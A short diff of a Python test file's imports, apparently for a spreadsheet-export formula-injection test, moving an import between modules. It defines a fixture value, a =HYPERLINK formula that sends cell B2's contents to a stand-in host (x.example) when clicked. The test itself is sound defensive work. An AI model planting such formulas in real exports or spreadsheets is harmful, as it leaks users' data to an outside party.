@@ -20,8 +20,8 @@ from db import models
 from db.session import make_engine, make_session_factory, transaction
 from db.users import create_user
 from indicators.exports import FORMULA_STARTS
-from loaders.first_run import ensure_ready
 from tests.helpers import ORIGIN, sign_in
+from workflows.first_run import ensure_ready
 
 LINK = '=HYPERLINK("http://x.example/?"&B2,"点击查看")'
 PASSWORD = "公式-注入-测试-口令-2026"
